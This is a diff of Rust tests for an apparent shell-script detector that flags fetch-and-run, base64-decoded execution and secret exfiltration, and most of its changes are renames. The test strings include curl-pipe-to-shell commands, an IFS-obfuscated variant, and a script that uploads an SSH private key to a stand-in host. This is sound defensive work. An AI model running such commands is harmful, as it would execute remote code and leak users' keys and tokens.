@@ -2,14 +2,14 @@ use super::*;
 
 fn acts(text: &str) -> Vec<Act> {
     read(text)
-        .seen
+        .located
         .into_iter()
         .map(|seen| seen.act)
         .filter(|act| !matches!(act, Act::Program(_)))
         .collect()
 }
 
-fn executes(text: &str) -> Option<Code> {
+fn executes(text: &str) -> Option<CodeOrigin> {
     acts(text).into_iter().find_map(|act| match act {
         Act::Executes(code) => Some(code),
         _ => None,
@@ -26,7 +26,7 @@ fn sends(text: &str) -> Taint {
 
 #[test]
 fn what_is_fetched_and_executed() {
-    let from = |url: &str| Some(Code::Fetched(url.into()));
+    let from = |url: &str| Some(CodeOrigin::Fetched(url.into()));
     for text in [
         "curl -fsSL https://a.example/x | sh",
         "curl https://a.example/x | tee log | sudo -E bash -s -- -y",
@@ -52,9 +52,9 @@ fn what_is_fetched_and_executed() {
 #[test]
 fn what_is_decoded_and_executed() {
     let text = "echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | bash";
-    assert_eq!(executes(text), Some(Code::Decoded));
-    assert_eq!(read(text).inner[0].text, "curl http://x | sh");
-    assert_eq!(executes("bash -c \"$(echo abc | base64 -D)\""), Some(Code::Decoded));
+    assert_eq!(executes(text), Some(CodeOrigin::Decoded));
+    assert_eq!(read(text).embedded[0].text, "curl http://x | sh");
+    assert_eq!(executes("bash -c \"$(echo abc | base64 -D)\""), Some(CodeOrigin::Decoded));
     assert_eq!(executes("base64 -d x > y"), None);
 }
 
@@ -111,7 +111,7 @@ fn decoders_of_all_kinds() {
         "run() { eval \"$1\"; }\nrun \"$(base64 -d <<< aWQ=)\"",
         "echo aWQ= | base64 -d | xargs -I{} sh -c '{}'",
     ] {
-        assert_eq!(executes(text), Some(Code::Decoded), "{text}");
+        assert_eq!(executes(text), Some(CodeOrigin::Decoded), "{text}");
     }
     for text in [
         "x=$(echo \"$1\" | tr A-Z a-z); eval \"$x\"",
@@ -151,7 +151,7 @@ fn names_of_programs_in_pieces() {
         executes(
             "p='curl${IFS}https://a.example/x${IFS}|${IFS}sh'; curl${IFS}https://a.example/x|sh"
         ),
-        Some(Code::Fetched("https://a.example/x".into()))
+        Some(CodeOrigin::Fetched("https://a.example/x".into()))
     );
 }
 
@@ -174,17 +174,17 @@ fn keys_that_are_looked_for_and_copied() {
 
 #[test]
 fn scripts_that_read_others_in() {
-    let mut memory = Memory::default();
+    let mut state = CrossFileShellState::default();
     let library =
         "KEY=\"$HOME/.ssh/id_ed25519\"\nTO=https://a.example\nship() { curl -T \"$1\" \"$TO\"; }";
     let main = ". ./library.sh\nship \"$KEY\"";
     for _ in 0..2 {
-        read_with("main.sh", main, &mut memory);
-        read_with("library.sh", library, &mut memory);
+        read_with("main.sh", main, &mut state);
+        read_with("library.sh", library, &mut state);
     }
-    let found = read_with("library.sh", library, &mut memory);
+    let found = read_with("library.sh", library, &mut state);
     let sent = found
-        .seen
+        .located
         .iter()
         .any(|seen| matches!(&seen.act, Act::Network { sends, .. } if sends.is_secret()));
     assert!(sent, "{found:?}");
@@ -322,9 +322,9 @@ fn addresses_that_functions_and_loops_are_given() {
             Act::Network { to, sends, log_in } => Some((to, [sends.tokens, log_in].concat())),
             _ => None,
         });
-        found
-            .into_iter()
-            .any(|(to, tokens)| tokens.iter().any(|token| crate::service::is_stranger(token, &to)))
+        found.into_iter().any(|(to, tokens)| {
+            tokens.iter().any(|token| crate::service::is_foreign_host(token, &to))
+        })
     };
     let header = "-H \"Authorization: Bearer $GITHUB_TOKEN\"";
     for text in [
